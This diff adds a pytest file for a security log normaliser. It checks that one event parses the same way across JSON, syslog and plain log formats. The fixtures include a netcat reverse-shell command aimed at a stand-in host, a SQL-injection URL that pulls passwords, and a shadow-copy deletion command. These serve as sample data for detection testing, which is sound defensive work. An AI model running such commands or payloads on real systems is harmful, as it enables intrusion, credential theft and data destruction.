@@ -1,0 +1,57 @@
+"""A command or a request in the log of an application that nobody knows reads to the models as in the best-known form."""
+import json
+
+import pytest
+
+from aiscore_contract.event import Event
+from aiscore_model.normalise import normalise
+
+COMMAND = "nc -e /bin/sh gate7 4444"
+ATTACK = "/product?id=3%27%20UNION%20SELECT%20password%20FROM%20users--"
+WORDS = "path product query id num quote union select password from users comment"
+EVENTS = {
+    "an object": json.dumps({"user": "ann", "cmdline": COMMAND}), "words one by one": json.dumps({"proc": {"argv": ["nc", "-e", "/bin/sh", "gate7", "4444"]}}),
+    "an act beside it": json.dumps({"event": "exec", "user": "ann", "cmd": COMMAND}), "a pair": f'2026-11-27T10:00:00Z pc7 exec user=ann cmd="{COMMAND}"',
+    "a pair behind a header": f'Nov 27 10:11:12 pc7 runner[33]: exec user=ann cmd="{COMMAND}"', "said": f"2026-11-27 10:00:00 INFO worker - Executing command: {COMMAND}",
+}
+
+
+def read(text):
+    return normalise(Event(text=text))
+
+
+@pytest.mark.parametrize("form", EVENTS)
+def test_a_command_says_the_same_words_in_all_forms(form):
+    words, found = read(COMMAND).template, read(EVENTS[form])
+    assert words in found.template
+    assert COMMAND in found.focus
+    assert form == "an act beside it" or dict(found.entities)["process"] == "nc"
+
+
+@pytest.mark.parametrize("text", [
+    json.dumps({"url": ATTACK, "status": 200, "ip": "192.0.2.7"}), json.dumps({"level": "info", "msg": f"GET {ATTACK} 200", "ip": "192.0.2.7"}),
+    f'[2026-11-27 10:00:00] INFO 192.0.2.7 "GET {ATTACK}" 200 12ms', f"Nov 27 10:11:12 web7 shop[33]: 192.0.2.7 GET {ATTACK} 200 in 12 ms",
+])
+def test_a_request_says_the_same_words_in_all_forms(text):
+    found = read(text)
+    assert WORDS in found.template and "success" in found.template
+    assert found.kind == "web" and dict(found.entities)["src"] == "192.0.2.7"
+
+
+def test_what_is_said_beside_a_request_is_read_behind_it():
+    found = read('Nov 27 10:11:12 pc7 dockerd[5]: time="x" level=error msg="Handler for POST /v1.43/containers/shop/exec returned error: Container is not running"')
+    assert found.template.index("containers shop exec") < found.template.index("returned error") < found.template.index("is not running")
+
+
+def test_who_ran_a_command_and_where_is_known_beside_it():
+    found = read(json.dumps({"user": "ann", "service": "runner", "cmdline": COMMAND, "duration": 7}))
+    assert {("user", "ann"), ("service", "runner")} <= set(found.entities)
+
+
+def test_an_act_that_an_object_names_stays_what_happened():
+    assert read(json.dumps({"action": "policy.updated", "actor": "ann", "url": ATTACK, "ip": "192.0.2.7"})).action == "policy updated"
+
+
+def test_what_falcon_saw_is_read_inside_of_a_collectors_member():
+    row = {"event_simpleName": "ProcessRollup2", "ImageFileName": r"\Device\HarddiskVolume2\Windows\System32\vssadmin.exe", "CommandLine": "vssadmin delete shadows", "UserName": "ann"}
+    assert read(json.dumps({"aid": "x", "event": row})).template == read(json.dumps(row)).template
